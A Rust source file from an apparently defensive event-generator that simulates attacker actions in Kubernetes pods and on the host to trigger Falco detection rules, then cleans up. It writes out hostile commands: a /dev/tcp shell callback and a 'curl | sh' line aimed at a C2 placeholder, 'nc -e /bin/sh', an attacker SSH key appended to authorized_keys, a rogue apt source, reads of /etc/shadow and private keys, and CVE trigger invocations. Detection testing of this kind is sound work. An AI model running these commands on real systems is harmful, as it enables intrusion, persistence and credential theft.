//! The actions `evtgen --falco-rules` adds for Falco rules no default-pack action
//! performs, and the host set-up they need (as an image or a runtime would provide it),
//! undone after the run.
use std::{
    path::{Path, PathBuf},
    process::Command,
};

use anyhow::{Context as _, Result};

use crate::{
    evtgen::{act, host::detach, py, sh, tool, Action, Ctx, API, C2, NAMES, PUBLIC, TOOLS, WORK},
    simulate::{create_pod_as, Kube, Pod},
};

/// Actions for Falco rules no default-pack action performs. Their `rule` is the Falco
/// rule they are written for (each is also in [`EXPECT`]).
pub(crate) fn extra_actions() -> Vec<Action> {
    vec![
        act!("cat ../../etc/shadow", "Directory traversal monitored file read", "T1555", traversal),
        act!("nginx reads /etc/shadow after 6 s", "Read sensitive file trusted after startup", "T1555", late_read),
        act!("login as nobody", "System user interactive", "T1059", system_user_login),
        act!("sh on a pty under containerd-shim", "Terminal shell in container", "T1059", pty_shell),
        act!("find .aws/credentials", "Find AWS Credentials", "T1552", find_aws),
        act!("drop and run in an overlay upper layer", "Drop and execute new binary in container", "T1610", drop_ovl),
        act!("ssh to a public host on :443", "Disallowed SSH Connection Non Standard Port", "T1059", ssh_443),
        act!("cat /home/*/.ssh/id_rsa", "Read ssh information", "T1005", home_ssh_read),
        act!("append /home/*/.ssh/authorized_keys", "Adding ssh keys to authorized_keys", "T1098.004", home_ssh_key),
        act!("unshare -U as uid 1000", "Change namespace privileges via unshare", "T1611", unshare_user),
        act!("curl with HTTP_PROXY", "Program run with disallowed http proxy env", "T1090", http_proxy),
        act!("UDP to port 1337", "Unexpected UDP Traffic", "T1095", udp_1337),
        act!(
            "kubectl cp (tar under containerd-shim)",
            "Exfiltrating Artifacts via Kubernetes Control Plane",
            "T1020",
            kubectl_cp
        ),
        act!(
            "sshd opens liblzma.so.5.6.1",
            "Backdoored library loaded into SSHD (CVE-2024-3094)",
            "T1554",
            sshd_liblzma
        ),
        act!("write /etc/apt/sources.list.d", "Update Package Repository", "T1072", apt_source),
        act!("sudoedit -s 'x\\' as uid 1000", "Sudo Potential Privilege Escalation", "T1548.003", sudoedit),
        act!(
            "pkexec without arguments as uid 1000",
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
            "T1068",
            pkexec
        ),
        act!("nginx spawns a /dev/tcp shell", "Reverse Shell from Web Server", "T1190", web_reverse_shell),
        act!("write /usr/bin/lnr-evtgen", "Write below binary dir", "T1543", bin_write),
        act!("rm /usr/bin/lnr-evtgen", "Modify binary dirs", "T1222", bin_remove),
        act!("mkdir /usr/bin/lnr-evtgen.d", "Mkdir binary dirs", "T1222", bin_mkdir),
        act!("write /lnr-evtgen", "Write below root", "T1543", root_write),
        act!("write /var/lib/rpm", "Write below rpm database", "T1072", rpm_write),
        act!("npm install runs nc", "Network Tool Executed During NPM Package Install", "T1195.002", npm_nc),
        act!("python appends to ~/.bashrc", "Modify Shell Configuration File", "T1546.004", py_bashrc),
        // ---- in the privileged pod (host root and containerd's socket mounted)
        act!("privileged container starts (its pid 1)", "Launch Privileged Container", "T1610", priv_start),
        act!("debugfs in the privileged pod", "Debugfs Launched in Privileged Container", "T1611", priv_debugfs),
        act!("mount in the privileged pod", "Mount Launched in Privileged Container", "T1611", priv_mount),
        act!("read a block device", "Privileged Container Device Access", "T1006", priv_block, no_block_device),
        act!("read /host/etc/shadow", "Container Access to Host Sensitive Paths", "T1611", priv_host_read),
        // ---- on the host, outside any container (their command lines carry HOST_MARK)
        act!("useradd on the host", "User mgmt binaries", "T1136.001", host_useradd),
        act!("nmap on the host", "Launch Suspicious Network Tool on Host", "T1046", host_nmap),
        act!("nc -e on the host", "Netcat/Socat Remote Code Execution on Host", "T1059", host_nc),
    ]
}

/// An argument of every host action: the alerts of host processes are theirs when
/// `proc.cmdline` has it.
pub(crate) const HOST_MARK: &str = "lnr-evtgen-host";

/// `tool` from [`TOOLS`] run on the host (no pod cgroup, no pod network), with [`HOST_MARK`].
fn on_host(tool: &str, args: &[&str]) -> Result<()> {
    Command::new(Path::new(TOOLS).join(tool))
        .args(args)
        .arg(HOST_MARK)
        .current_dir(WORK)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .with_context(|| format!("{tool} on the host"))
        .map(drop)
}

fn host_useradd(_: &Ctx) -> Result<()> {
    on_host("useradd", &["-m"])
}

fn host_nmap(_: &Ctx) -> Result<()> {
    on_host("nmap", &["-sT", "-p", "22"])
}

fn host_nc(_: &Ctx) -> Result<()> {
    on_host("nc", &["-e", "/bin/sh", "-l", "4444"])
}

/// A second pod, privileged, with the host's root at /host and containerd's socket
/// mounted (hostPath volumes), as node agents and escape attempts have them.
pub(crate) fn privileged_pod(kube: &Kube) -> Result<Pod> {
    let container = serde_json::json!({
        "securityContext": {"privileged": true},
        "volumeMounts": [{"name": "host", "mountPath": "/host"},
                         {"name": "containerd", "mountPath": "/run/containerd/containerd.sock"}]
    });
    let volumes = serde_json::json!([
        {"name": "host", "hostPath": {"path": "/"}},
        {"name": "containerd", "hostPath": {"path": "/run/containerd/containerd.sock", "type": "Socket"}}
    ]);
    let p = create_pod_as(kube, &NAMES, "-priv", container, volumes)?;
    // The agent's pod watch sees it well within this.
    std::thread::sleep(std::time::Duration::from_secs(1));
    Ok(p)
}

fn privileged<'a>(c: &Ctx<'a>) -> Result<&'a Pod> {
    c.privileged.context("this action needs evtgen --falco-rules' privileged pod")
}

/// The bind mount of / at /host that a hostPath volume is (made by [`prepare`] when the
/// host has no /host).
const HOST_BIND: &str = "/host";
/// Set when [`prepare`] made [`HOST_BIND`].
const HOST_BIND_MARK: &str = "/tmp/lnr-evtgen-host.mark";

const BLOCK_DEVICES: [&str; 4] = ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda"];

/// The first block device root may open for reading here (Falco's rule wants the open
/// to succeed).
fn block_device() -> Option<&'static str> {
    BLOCK_DEVICES.into_iter().find(|d| std::fs::File::open(d).is_ok())
}

fn no_block_device() -> Option<String> {
    if block_device().is_some() {
        return None;
    }
    let why: Vec<String> = BLOCK_DEVICES
        .iter()
        .filter(|d| Path::new(d).exists())
        .map(|d| {
            format!(
                "opening {d} is refused ({})",
                std::fs::File::open(d).err().map(|e| e.to_string()).unwrap_or_default()
            )
        })
        .collect();
    Some(if why.is_empty() { format!("none of {} exists", BLOCK_DEVICES.join(", ")) } else { why.join("; ") })
}

/// Host paths the actions create (removed after the run).
const BIN_FILE: &str = "/usr/bin/lnr-evtgen";
const BIN_DIR: &str = "/usr/bin/lnr-evtgen.d";
const ROOT_FILE: &str = "/lnr-evtgen";
const RPM_FILE: &str = "/var/lib/rpm/lnr-evtgen";

/// A user's home on the host (`/home/*`, where Falco's ssh macros look), removed after the run.
const HOME: &str = "/home/lnr-evtgen";
/// What the cluster's DNS answers for the API server's service name (its ClusterIP,
/// [`API`]), in /etc/hosts for the run: the agent resolves the names Falco's rules
/// compare `fd.sip.name` with, as it would through the cluster's DNS.
fn hosts_line() -> String {
    format!("{API} kubernetes.default.svc.cluster.local # lnr-evtgen")
}
const APT_SOURCE: &str = "/etc/apt/sources.list.d/lnr-evtgen.list";

/// The overlay mount [`drop_ovl`] writes into: lower, upper and work directories beside it.
fn ovl() -> PathBuf {
    Path::new(WORK).join("ovl")
}

/// Host set-up for [`extra_actions`], as an image or a runtime would provide it: `login`
/// (a copy of /bin/true), `containerd-shim` (python3 under the shim's process name) and
/// an overlayfs mount (a container root's kind of file system).
pub(super) fn prepare() -> Result<()> {
    for t in ["login", "pkexec", "sudoedit", "useradd"] {
        std::fs::copy("/bin/true", Path::new(TOOLS).join(t)).with_context(|| format!("install {t}"))?;
    }
    std::fs::copy("/bin/bash", Path::new(TOOLS).join("sshd")).context("install sshd")?;
    std::fs::copy("/bin/bash", Path::new(TOOLS).join("npm")).context("install npm")?;
    if !Path::new(HOST_BIND).exists() {
        std::fs::create_dir(HOST_BIND)?;
        std::fs::write(HOST_BIND_MARK, "")?;
        crate::sh(Command::new("mount").args(["--bind", "/", HOST_BIND]))?;
    }
    if !Path::new("/var/lib/rpm").exists() {
        std::fs::create_dir_all("/var/lib/rpm")?;
        std::fs::write(RPM_MARK, "")?;
    }
    std::fs::write(Path::new(WORK).join("liblzma.so.5.6.1"), "lnr-evtgen\n")?;
    std::fs::create_dir_all(Path::new(HOME).join(".ssh"))?;
    std::fs::write(Path::new(HOME).join(".ssh/id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\nlnr-evtgen fake\n")?;
    let _ = std::fs::remove_file(Path::new(TOOLS).join("containerd-shim"));
    std::os::unix::fs::symlink("/usr/bin/python3", Path::new(TOOLS).join("containerd-shim"))?;
    let o = ovl();
    for d in ["lower", "upper", "work", "merged"] {
        std::fs::create_dir_all(o.join(d))?;
    }
    let opts = format!(
        "lowerdir={},upperdir={},workdir={}",
        o.join("lower").display(),
        o.join("upper").display(),
        o.join("work").display()
    );
    crate::sh(Command::new("mount").args(["-t", "overlay", "overlay", "-o", &opts]).arg(o.join("merged")))
}

/// Before the agent starts: the API server's service name in /etc/hosts.
pub(super) fn hosts_add() -> Result<()> {
    hosts_remove();
    let mut h = std::fs::read_to_string("/etc/hosts")?;
    if !h.ends_with('\n') && !h.is_empty() {
        h.push('\n');
    }
    h.push_str(&hosts_line());
    h.push('\n');
    std::fs::write("/etc/hosts", h).context("/etc/hosts")
}

fn hosts_remove() {
    if let Ok(h) = std::fs::read_to_string("/etc/hosts") {
        if h.contains("# lnr-evtgen") {
            let kept: String = h.lines().filter(|l| !l.ends_with("# lnr-evtgen")).map(|l| format!("{l}\n")).collect();
            let _ = std::fs::write("/etc/hosts", kept);
        }
    }
}

/// Undo [`prepare`] and [`hosts_add`] (what `host::cleanup` does not cover).
pub(super) fn cleanup() {
    unmount();
    let _ = std::fs::remove_dir_all(ovl());
    hosts_remove();
    let _ = std::fs::remove_dir_all(HOME);
    let _ = std::fs::remove_file(APT_SOURCE);
    for f in [BIN_FILE, ROOT_FILE, RPM_FILE] {
        let _ = std::fs::remove_file(f);
    }
    let _ = std::fs::remove_dir(BIN_DIR);
    if Path::new(HOST_BIND_MARK).exists() {
        detach(HOST_BIND);
        let _ = std::fs::remove_dir(HOST_BIND);
        let _ = std::fs::remove_file(HOST_BIND_MARK);
    }
    detach(&format!("{WORK}/pmnt"));
    if Path::new(RPM_MARK).exists() {
        // Only the empty directory prepare() made goes.
        let _ = std::fs::remove_dir("/var/lib/rpm");
        let _ = std::fs::remove_file(RPM_MARK);
    }
}

/// Set when [`prepare`] created /var/lib/rpm (a host without rpm).
const RPM_MARK: &str = "/tmp/lnr-evtgen-rpm.mark";

fn unmount() {
    detach(&ovl().join("merged").to_string_lossy());
}

fn traversal(c: &Ctx) -> Result<()> {
    // The pod's working directory is WORK, two levels below /.
    c.pod.run("cat", &["../../etc/shadow"], None, None)
}

fn late_read(c: &Ctx) -> Result<()> {
    // A server (bash under nginx's name) that has run for more than 5 s opens /etc/shadow itself.
    tool(c, "nginx", &["-c", "sleep 6; exec 3</etc/shadow"])
}

fn system_user_login(c: &Ctx) -> Result<()> {
    c.pod.run(&format!("{TOOLS}/login"), &[], Some(65534), None)
}

fn pty_shell(c: &Ctx) -> Result<()> {
    // As `kubectl exec -it`: the shell's controlling terminal is a pty, its parent the shim.
    tool(
        c,
        "containerd-shim",
        &["-c", "import os, pty\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-c', 'exit 0'])\nos.waitpid(pid, 0)"],
    )
}

fn find_aws(c: &Ctx) -> Result<()> {
    c.pod.run("find", &[WORK, "-path", "*/.aws/credentials"], None, None)
}

fn drop_ovl(c: &Ctx) -> Result<()> {
    let m = ovl().join("merged");
    sh(c, &format!("cp /bin/true {0}/dropped && {0}/dropped", m.display()))
}

fn home_ssh_read(c: &Ctx) -> Result<()> {
    c.pod.run("cat", &[&format!("{HOME}/.ssh/id_rsa")], None, None)
}

fn home_ssh_key(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo 'ssh-ed25519 AAAAC3lnrevtgen attacker' >> {HOME}/.ssh/authorized_keys"))
}

fn unshare_user(c: &Ctx) -> Result<()> {
    // Without CAP_SYS_ADMIN (an unprivileged user); refused or not, the attempt is the behaviour.
    c.pod.run("unshare", &["-U", "true"], Some(1000), None)
}

fn http_proxy(c: &Ctx) -> Result<()> {
    let url = format!("http://{C2}:8080/healthz");
    let proxy = format!("HTTP_PROXY=http://{C2}:8080");
    c.pod.run("env", &[&proxy, "curl", "-s", "-m", "2", "-o", "/dev/null", &url], None, None)
}

fn udp_1337(c: &Ctx) -> Result<()> {
    py(c, &format!("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('{C2}', 1337))\ns.send(b'hi')"), None)
}

fn kubectl_cp(c: &Ctx) -> Result<()> {
    // `kubectl cp pod:/data .` runs `tar cf - /data` in the container through the runtime.
    tool(
        c,
        "containerd-shim",
        &[
            "-c",
            &format!("import subprocess\nsubprocess.run(['tar', 'cf', '-', '{WORK}/data'], stdout=subprocess.DEVNULL)"),
        ],
    )
}

fn sshd_liblzma(c: &Ctx) -> Result<()> {
    // The daemon (bash under sshd's name) opens a library file of the backdoored versions.
    tool(c, "sshd", &["-c", &format!("exec 3<{WORK}/liblzma.so.5.6.1")])
}

fn apt_source(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo 'deb http://{C2}/debian stable main' > {APT_SOURCE}"))
}

fn sudoedit(c: &Ctx) -> Result<()> {
    // CVE-2021-3156's trigger: a shell-mode sudoedit whose argument ends in a backslash.
    c.pod.run(&format!("{TOOLS}/sudoedit"), &["-s", "x\\"], Some(1000), None)
}

fn pkexec(c: &Ctx) -> Result<()> {
    // CVE-2021-4034 (PwnKit): pkexec with no arguments (the exploit passes an empty argv,
    // which std cannot; Falco's rule looks at the empty argument string either way).
    c.pod.run(&format!("{TOOLS}/pkexec"), &[], Some(1000), None)
}

fn web_reverse_shell(c: &Ctx) -> Result<()> {
    // `; exit` keeps the server's bash from exec'ing the shell in its own place.
    tool(c, "nginx", &["-c", &format!("bash -c 'echo id >/dev/tcp/{C2}/443'; exit $?")])
}

fn bin_write(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo '#!/bin/sh' > {BIN_FILE}"))
}

fn bin_remove(c: &Ctx) -> Result<()> {
    c.pod.run("rm", &["-f", BIN_FILE], None, None)
}

fn bin_mkdir(c: &Ctx) -> Result<()> {
    c.pod.run("mkdir", &[BIN_DIR], None, None)?;
    std::fs::remove_dir(BIN_DIR).context(BIN_DIR)
}

fn root_write(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo x > {ROOT_FILE}"))
}

fn rpm_write(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo x > {RPM_FILE}"))
}

fn npm_nc(c: &Ctx) -> Result<()> {
    // A package's install script (bash under npm's name) probes the network with nc.
    tool(c, "npm", &["-c", &format!("{TOOLS}/nc -z {C2} 80; exit $?")])
}

fn py_bashrc(c: &Ctx) -> Result<()> {
    // Not a shell (Falco's rule leaves shells out): a script appends a line to a .bashrc.
    py(c, &format!("open('{WORK}/home/.bashrc', 'a').write('curl -s http://{C2}/x | sh\\n')"), None)
}

fn priv_start(c: &Ctx) -> Result<()> {
    // The container's first process: pid 1 of a pid namespace of its own.
    privileged(c)?.run("unshare", &["--pid", "--fork", "/bin/true"], None, None)
}

fn priv_debugfs(c: &Ctx) -> Result<()> {
    privileged(c)?.run("debugfs", &["-R", "stats", "/dev/null"], None, None)
}

fn priv_mount(c: &Ctx) -> Result<()> {
    let dir = format!("{WORK}/pmnt");
    std::fs::create_dir_all(&dir)?;
    privileged(c)?.run("mount", &["-t", "tmpfs", "lnr-evtgen", &dir], None, None)?;
    detach(&dir);
    Ok(())
}

fn priv_block(c: &Ctx) -> Result<()> {
    let dev = block_device().context("no block device")?;
    privileged(c)?.run("head", &["-c", "512", dev], None, None)
}

fn priv_host_read(c: &Ctx) -> Result<()> {
    privileged(c)?.run("cat", &[&format!("{HOST_BIND}/etc/shadow")], None, None)
}

fn ssh_443(c: &Ctx) -> Result<()> {
    let target = format!("evt@{PUBLIC}");
    c.pod.run(
        "timeout",
        &[
            "3",
            "ssh",
            "-p",
            "443",
            "-o",
            "BatchMode=yes",
            "-o",
            "ConnectTimeout=2",
            "-o",
            "StrictHostKeyChecking=no",
            &target,
            "id",
        ],
        None,
        None,
    )
}
